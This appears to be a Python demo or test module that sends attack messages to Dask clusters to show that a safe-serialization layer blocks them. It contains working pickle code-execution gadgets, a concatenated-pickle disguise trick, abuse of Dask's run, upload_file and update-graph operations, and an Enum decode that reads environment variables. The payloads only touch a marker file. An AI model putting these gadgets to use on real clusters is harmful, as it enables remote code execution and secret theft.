"""The attackers' messages, written with Dask's own comm API, for both clusters alike.

The one rule: they are harmless. A payload that runs makes one empty file, its marker, and nothing
else; the file is the proof.
"""

from __future__ import annotations

import asyncio
import pickle
from collections.abc import Mapping
from pathlib import Path
from typing import Any

from distributed.comm import connect
from distributed.comm.core import Comm
from distributed.protocol.serialize import Pickled, Serialized

__all__ = ["BUILDERS", "evil", "evil_text", "greet_with_pickle", "payload", "say"]

#: No honest answer takes longer, and a refused stream gets none.
_ANSWER = 5.0
_CONNECT = 10.0


class _Touch:
    """Pickles as a call that makes the file."""

    def __init__(self, marker: Path) -> None:
        self._marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return Path.touch, (self._marker,)


def evil(marker: Path) -> bytes:
    """Return a pickle that makes *marker* when it is opened."""
    return pickle.dumps(_Touch(marker))


def evil_text(marker: Path, then: object) -> bytes:
    """Return a pickle that makes *marker* and then is *then*, so that nothing looks wrong."""
    # Protocol 3 has no frames, so two pickles can stand one behind the other: the first without its
    # STOP, its result dropped.
    return pickle.dumps(_Touch(marker), 3)[:-1] + b"0" + pickle.dumps(then, 3)


def payload(marker: Path) -> Pickled:
    """Return it as what Dask sends for ``ToPickle``; every recipient opens that."""
    return Pickled({"pickled-obj": evil(marker)}, [])


# --- one builder for each attack of bob's: the forms of its message ----------------------------


def _pickled(markers: list[Path], secret: str) -> list[dict[str, Any]]:
    del secret
    return [
        {"op": "identity", "note": payload(markers[0])},
        # The marker that stock Dask writes for it, spelled out in the message itself.
        {"op": "identity", "note": {"__Pickled__": 1}, "frame": payload(markers[1])},
    ]


def _type_serialized(markers: list[Path], secret: str) -> list[dict[str, Any]]:
    del secret
    header = {**_array_header(evil(markers[0])), "sub-header": {}}
    return [{"op": "update_data", "data": {"x": Serialized(header, [b""])}}]


def _array_header(pickled_type: bytes) -> dict[str, Any]:
    return {
        "serializer": "dask",
        "type": "numpy.ndarray",
        "type-serialized": pickled_type,
        "is-cuda": False,
    }


def _object_array(markers: list[Path], secret: str) -> list[dict[str, Any]]:
    del secret
    import numpy as np

    stock = {**_array_header(pickle.dumps(np.ndarray)), "sub-header": {"pickle": True}}
    # The same array in the layout of safeser's own headers, which name a type and never pickle it.
    meta = {"shape": [1], "order": "C", "writeable": True, "dtype": "|O"}
    translated = {"serializer": "dask", "type": "numpy:ndarray", "sub-header": meta}
    return [
        {"op": "update_data", "data": {"x": Serialized(header, [evil(marker)])}}
        for header, marker in zip((stock, translated), markers, strict=True)
    ]


def _run(markers: list[Path], secret: str) -> list[dict[str, Any]]:
    del secret
    return [{"op": "run", "function": evil(markers[0])}]


def _run_function(markers: list[Path], secret: str) -> list[dict[str, Any]]:
    del secret
    return [{"op": "run_function", "function": evil(markers[0])}]


def _upload_file(markers: list[Path], secret: str) -> list[dict[str, Any]]:
    del secret
    code = f"import pathlib\npathlib.Path({str(markers[0])!r}).touch()\n"
    return [{"op": "upload_file", "filename": "safeser_demo_upload.py", "data": code.encode()}]


def _enum(markers: list[Path], secret: str) -> list[dict[str, Any]]:
    del markers, secret
    # Dask's decoder takes two attributes of any of its modules: here distributed.utils.os.environ.
    read = {"__Enum__": True, "__module__": "distributed.utils", "__name__": "os"}
    return [{"op": "echo", "data": {**read, "name": "environ"}}]


def _update_graph(markers: list[Path], secret: str) -> list[dict[str, Any]]:
    del secret
    graph = Serialized({"serializer": "pickle", "writeable": ()}, [evil(markers[0])])
    return [
        {"op": "register-client", "client": "Client-bob", "reply": False, "versions": {}},
        {
            "op": "update-graph",
            "expr_ser": graph,
            "keys": ["x"],
            "internal_priority": None,
            "submitting_task": None,
            "span_metadata": {"collections": []},
        },
    ]


#: What bob says, one list of messages for each attack. A first message "register-client" makes the
#: connection a stream for what follows; else each is a request on a connection of its own.
BUILDERS = {
    "pickled": _pickled,
    "type-serialized": _type_serialized,
    "object-array": _object_array,
    "run": _run,
    "run-function": _run_function,
    "upload-file": _upload_file,
    "enum": _enum,
    "update-graph": _update_graph,
}


async def say(
    address: str, messages: list[dict[str, Any]], options: Mapping[str, Any]
) -> list[str]:
    """Send *messages* to *address* and return what came back, as text."""
    if messages[0]["op"] == "register-client":
        return [await _say_on_one(address, messages, options)]
    return [await _say_on_one(address, [message], options) for message in messages]


async def _say_on_one(
    address: str, messages: list[dict[str, Any]], options: Mapping[str, Any]
) -> str:
    comm = await connect(address, timeout=_CONNECT, **options)
    try:
        await comm.write(messages[0])
        answer = await _answer(comm)
        for message in messages[1:]:
            await comm.write([message])
            answer = await _answer(comm)
        return answer
    finally:
        comm.abort()


async def _answer(comm: Comm) -> str:
    try:
        return repr(await asyncio.wait_for(comm.read(), _ANSWER))
    except (OSError, TimeoutError) as error:
        return f"no answer ({type(error).__name__})"
    # What comes back to an attacker may be anything, and none of it may stop the demo.
    except Exception as error:
        return f"{type(error).__name__}: {error}"


async def greet_with_pickle(address: str, marker: Path, options: Mapping[str, Any]) -> str:
    """Connect to *address* with a pickle in the first message that Dask's handshake sends."""
    greeting = {"note": payload(marker)}
    try:
        comm = await connect(address, timeout=_CONNECT, handshake_overrides=greeting, **options)
    except Exception as error:  # however it is turned away, it is turned away
        return f"not connected ({type(error).__name__})"
    comm.abort()
    return "connected"
